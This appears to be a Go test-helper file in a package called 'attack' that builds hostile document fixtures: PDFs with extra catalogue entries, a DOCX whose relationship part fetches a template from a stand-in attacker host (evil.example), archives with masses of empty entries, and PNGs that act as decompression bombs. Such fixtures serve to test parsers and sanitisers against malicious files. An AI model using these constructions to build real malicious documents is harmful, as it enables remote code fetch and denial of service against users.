package attack

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"maps"
	"slices"
	"strings"
)

// pdf is a small PDF whose catalogue has further entries.
func pdf(entries []byte, more ...string) []byte {
	objects := append([]string{
		"<< /Type /Catalog /Pages 2 0 R " + string(entries) + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> >>",
	}, more...)
	var out bytes.Buffer
	out.WriteString("%PDF-1.4\n")
	var places []int
	for i, object := range objects {
		places = append(places, out.Len())
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, object)
	}
	start := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, at := range places {
		fmt.Fprintf(&out, "%010d 00000 n \n", at)
	}
	fmt.Fprintf(&out, "trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, start)
	return out.Bytes()
}

// externalTemplate is the part of a DOCX that fetches its template elsewhere.
const externalTemplate = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
	`<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ` +
	`Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`

// docx is a DOCX of that text, "" for an empty one, and of further parts.
func docx(text string, parts map[string][]byte) []byte {
	if text == "" {
		text = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>`
	}
	all := map[string][]byte{
		"[Content_Types].xml": []byte(`<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Default Extension="bin" ContentType="application/octet-stream"/><Override PartName="/word/document.xml" ` +
			`ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`),
		"_rels/.rels": []byte(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`),
		"word/document.xml": []byte(text),
	}
	maps.Copy(all, parts)
	var out bytes.Buffer
	archive := zip.NewWriter(&out)
	// As LibreOffice does, the types come first.
	for _, name := range slices.Sorted(maps.Keys(all)) {
		part, err := archive.Create(name)
		if err == nil {
			_, err = part.Write(all[name])
		}
		if err != nil {
			panic(err)
		}
	}
	if err := archive.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// emptyEntries are that many parts with nothing in them.
func emptyEntries(count int) map[string][]byte {
	parts := map[string][]byte{}
	for i := range count {
		parts[fmt.Sprintf("word/x%d", i)] = nil
	}
	return parts
}

// attributes are that many of an element.
func attributes(count int) string {
	var text strings.Builder
	for i := range count {
		fmt.Fprintf(&text, ` a%d="1"`, i)
	}
	return text.String()
}

// png is a PNG of nothing that says how large it would be.
func png(width, height uint32, depth, colours byte) []byte {
	return pngOf(width, height, depth, colours, 1)
}

// pngOf is a PNG whose pixels are that many MiB of zeros.
func pngOf(width, height uint32, depth, colours byte, mebibytes int) []byte {
	chunk := func(kind string, data []byte) []byte {
		named := append([]byte(kind), data...)
		out := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		return binary.BigEndian.AppendUint32(append(out, named...), crc32.ChecksumIEEE(named))
	}
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)
	var rows bytes.Buffer
	packed := zlib.NewWriter(&rows)
	for zeros := make([]byte, 1<<20); mebibytes > 0; mebibytes-- {
		_, _ = packed.Write(zeros)
	}
	_ = packed.Close()
	out := []byte("\x89PNG\r\n\x1a\n")
	out = append(out, chunk("IHDR", append(head, depth, colours, 0, 0, 0))...)
	if colours == 3 {
		out = append(out, chunk("PLTE", make([]byte, 3))...)
	}
	return append(append(out, chunk("IDAT", rows.Bytes())...), chunk("IEND", nil)...)
}
